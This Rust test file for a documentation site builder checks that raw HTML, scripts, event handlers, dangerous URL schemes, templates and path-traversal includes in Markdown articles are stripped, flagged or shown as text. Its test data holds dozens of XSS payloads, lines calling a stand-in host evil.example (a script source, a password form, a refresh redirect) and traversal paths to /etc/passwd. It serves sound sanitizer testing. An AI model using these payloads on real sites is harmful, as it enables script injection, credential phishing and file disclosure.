//! Active content: nothing of an article runs, loads or frames, and the text around it stays.

use super::case::{check, fine, safe, warned};

/// Raw HTML that does something somewhere.
const ACTIVE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>",
    "<script\n>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\n'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<b onclick=alert(1)>b</b>",
    "<b ONMOUSEOVER='alert(1)'>b</b>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<frameset><frame src=x></frameset>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=p type=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<style>body { display: none }</style>",
    "<p style=\"position:fixed;inset:0\">over everything</p>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<dialog open>over everything</dialog>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"https://example.com\" ping=https://evil.example>x</a>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('x') ?>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!DOCTYPE html SYSTEM \"x\">",
];

#[test]
fn raw_html_never_acts() {
    let hidden = ["<script>alert", "evil.example/x.js", "<iframe", "http-equiv=refresh", "<plaintext"];
    for (name, before, after) in [
        ("on lines of its own", "", ""),
        ("within a line", "Words ", " more"),
        ("in a heading", "## Head ", " line"),
        ("in a table", "| a | b |\n|---|---|\n| ", " | x |"),
        ("in a list in a quote", "> - ", ""),
        ("in a note", "Words[^1]\n\n[^1]: ", ""),
        ("in a link's text", "[x ", " y](https://example.com)"),
        ("in bold", "**x ", " y**"),
        ("in a block of HTML", "<div>\n", "\n</div>"),
    ] {
        let texts = ACTIVE.iter().map(|html| {
            let is_line = matches!(name, "in a table" | "in a heading");
            let html = if is_line { html.replace('\n', " ") } else { (*html).to_owned() };
            format!("# A\n\n{before}{html}{after}")
        });
        let case = safe(name).articles(texts);
        check([hidden.iter().fold(case, |case, text| case.hides(text))]);
    }
}

#[test]
fn what_is_removed_is_said() {
    let removed = |html: &str, place: &str| {
        let text = format!("# A\n\n{html}\n\nIt is seen.\n");
        warned(html).article(text).says(&format!("content/en/a.md:{place}")).shows("It is seen.")
    };
    check([
        removed("<script>alert(1)</script>", "3:1").says("`script`"),
        removed("Words <b onclick=x>b</b>", "3:7").says("`onclick`"),
        removed("<p style='color:red'>p</p>", "3:1").says("`style`"),
        removed("<iframe src=x></iframe>", "3:1").says("`iframe`"),
        removed("<form><input></form>", "3:1").says("`form`"),
        removed("<meta http-equiv=refresh>", "3:1").says("`meta`"),
        removed("<base href=x>", "3:1").says("`base`"),
        removed("<link rel=stylesheet href=x>", "3:1").says("`link`"),
        removed("<svg></svg>", "3:1").says("`svg`"),
        removed("<math></math>", "3:1").says("`math`"),
        removed("[x](javascript:alert(1))", "3:1").says("javascript:alert(1)"),
        removed("Open <your tenant> now", "3:6").says("`<your tenant>`").shows("&lt;your tenant&gt;"),
        removed("Open <tenant>.example.com now", "3:6").says("`<tenant>`").shows("&lt;tenant&gt;.example.com"),
    ]);
}

#[test]
fn addresses_never_run() {
    let addresses = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "\u{1}javascript:alert(1)",
        "java\0script:alert(1)",
        "\u{a0}javascript:alert(1)",
        "javascript\\:alert(1)",
        "java&#0;script:alert(1)",
        "&#x0D;javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "blob:https://x/y",
        "file:///etc/passwd",
        "filesystem:x",
        "jar:x",
        "about:blank",
        "intent:x",
        "ms-msdt:/id",
    ];
    let texts = addresses.iter().map(|address| {
        let escaped = address.replace('<', "&lt;").replace('>', "&gt;");
        format!(
            "# A\n\n[x]({address}) [y](<{escaped}> \"t\") ![z](<{escaped}>) <{address}> [r] [!VIDEO {address}]\n\n\
             <a href=\"{escaped}\">h</a> <img src=\"{escaped}\" alt=i> <blockquote cite=\"{escaped}\">c</blockquote>\n\n\
             :::image source=\"{escaped}\" alt-text=\"t\":::\n\n[r]: <{escaped}>"
        )
    });
    check([warned("addresses")
        .articles(texts)
        .hides("href=\"javascript")
        .hides("src=\"data:text")
        .says("url-removed")]);
}

#[test]
fn addresses_that_cannot_be_parsed_break_nothing() {
    let addresses = [
        "https://[x",
        "https://",
        "http://a b",
        "https://exa%mple",
        "//",
        "https://x:99999/",
        "mailto:",
        "#%",
        "?",
        "%zz",
        "https://\u{202e}x",
    ];
    let texts = addresses
        .iter()
        .map(|address| format!("# A\n\n[x](<{address}>) ![y](<{address}>) <a href=\"{address}\">z</a> <{address}>"));
    check([safe("addresses").articles(texts)]);
}

#[test]
fn attributes_in_markdown_are_text() {
    check([
        safe("on a heading").article("# A\n\n## B {onclick=alert(1)}\n\nText.\n").hides("<h2 onclick"),
        safe("on a heading, with quotes")
            .article("# A\n\n## B {#x\" onclick=\"alert(1)}\n\nText.\n")
            .hides("onclick=\"alert"),
        safe("an anchor with markup")
            .article("# A\n\n## B <a name='\"><script>alert(1)</script>'></a>\n\nText.\n")
            .hides("<script>alert"),
        safe("on a link").article("# A\n\n[x](https://example.com){onclick=alert(1)}\n"),
        safe("in an info string").article("# A\n\n```\"><script>alert(1)</script>\ncode\n```\n").hides("<script>alert"),
        safe("in an info string, braces")
            .article("# A\n\n```{.js onclick=\"alert(1)\"}\ncode\n```\n")
            .hides(" onclick=\"alert"),
        safe("in a link's title")
            .article("# A\n\n[x](https://example.com '\"onclick=alert(1) x=\"')\n")
            .hides("\"onclick"),
        safe("in a picture's text").article("# A\n\n![\"onerror=alert(1)](x.png)\n").hides("\"onerror"),
        safe("in a note's label")
            .article("# A\n\nx[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: note\n")
            .hides("\"onclick"),
        safe("in a parameter's name")
            .article("# AADSTS50000\n\n`invalid_grant: <script>alert(1)</script> \"x\" y`\n")
            .hides("<script>alert"),
    ]);
}

#[test]
fn templates_in_articles_are_text() {
    check([
        fine("Tera")
            .article("# {{ config }}\n\n{{ 7 * 7 }} {% include \"head.html\" %} {# no #}\n")
            .shows("{{ 7 * 7 }}")
            .shows("{# no #}"),
        fine("mdBook").article("# A\n\n{{#include /etc/passwd}}\n").shows("{{#include /etc/passwd}}").hides("root:"),
        fine("Liquid").article("# A\n\n{% raw %}{{ site.x }}{% endraw %}\n").shows("{% raw %}"),
        fine("Hugo").article("# A\n\n{{< youtube x >}}\n").shows("youtube x"),
        fine("in the title").article("---\ntitle: \"{{ 7 * 7 }}\"\n---\n\nText.\n").shows("{{ 7 * 7 }}"),
        fine("Fluent").article("# { $count }\n\nText { -brand }.\n").shows("{ $count }"),
    ]);
}

#[test]
fn includes_never_leave_the_content() {
    let secret = "secret words";
    let targets = [
        "../../secret.md",
        "/etc/passwd",
        "..\\..\\secret.md",
        "file:///etc/passwd",
        "%2e%2e/%2e%2e/secret.md",
        "includes/../../../secret.md",
        "https://evil.example/x.md",
        "../../../../../../etc/passwd",
        "includes/x.md\0",
    ];
    let texts = targets.iter().map(|target| format!("# A\n\n[!INCLUDE [x]({target})]\n\n[!INCLUDE[]({target})]"));
    check([warned("includes").file("secret.md", secret).articles(texts).hides(secret).hides("root:x")]);
}

#[test]
fn unbalanced_html_breaks_no_page() {
    let broken = [
        "</body></html>",
        "</div></div></div></article></main>",
        "<table>",
        "<table><tr><td>",
        "</table>",
        "<ul><li>",
        "</ul>",
        "<div>",
        "<div><div><div>",
        "<p>",
        "</p>",
        "<p><p>",
        "<b><i>x</b></i>",
        "<b>",
        "<h1>x",
        "<a href=x>",
        "<a href=x><a href=y>",
        "<details>",
        "<details><summary>",
        "<pre>",
        "<pre><code>",
        "<blockquote>",
        "<tr><td>x",
        "<td>x</td>",
        "<li>x",
        "<dl><dt>x",
        "<col>",
        "<caption>x",
        "<summary>x",
        "<ruby><rt>x",
        "<q><q>",
        "<span title=x>",
        "<br></br>",
        "<hr></hr>",
        "<img></img>",
        "<p/>",
        "<div/>",
        "<b/>x",
        "<!-- open",
        "<!",
        "<?",
        "</",
        "<",
        "<div",
        "<div title=\"",
        "<div title='x>",
        "</p></div>",
        "<h2></h3>",
        "<table></div></table>",
        "<div></table></div>",
        "<span data-ttu-id=\"1\">",
        "<span class=\"sxs-lookup\">",
        "</span></span>",
        "<span data-stu-id=1>x",
        "<span data-ttu-id=\"1\">x</span><span class=\"sxs-lookup\"><span data-stu-id=\"1\">",
        "<form></form><form>",
    ];
    for (name, before, after) in [
        ("on lines of its own", "", ""),
        ("within a line", "Words ", " more"),
        ("in bold", "**Words ", " more**"),
        ("in a heading", "## Head ", " line"),
        ("in a table", "| a | b |\n|---|---|\n| ", " | x |\n| y | z |"),
        ("in a list", "- One\n- ", "\n- Three"),
        ("in a quote", "> ", "\n\nmore"),
        ("in a list, as a block", "- One\n\n  ", "\n\n  more"),
        ("in an alert", "> [!NOTE]\n> ", ""),
        ("in a link", "[x ", "](https://example.com)"),
        ("in a note", "x[^1]\n\n[^1]: ", ""),
        ("before a parameter", "", "\n`invalid_grant: It is wrong.`"),
    ] {
        let texts = broken.iter().map(|html| format!("# A\n\n{before}{html}{after}"));
        check([safe(name).articles(texts)]);
    }
}

#[test]
fn placeholders_are_seen() {
    let seen = |text: &str, shown: &str| {
        warned(text)
            .article(format!("# A\n\n{text}\n"))
            .says("content/en/a.md:")
            .says("placeholder-unmarked")
            .shows(shown)
    };
    check([
        seen("Type <your tenant> here.", "&lt;your tenant&gt;"),
        seen("Type <tenant-id> here.", "&lt;tenant-id&gt;"),
        seen("| a |\n|---|\n| x <b-c> |", "&lt;b-c&gt;").says("content/en/a.md:"),
        seen("- <name>\n- x", "&lt;name&gt;"),
        fine("marked").article("# A\n\nType `<tenant>` or \\<tenant> here.\n").shows("&lt;tenant&gt;"),
    ]);
}
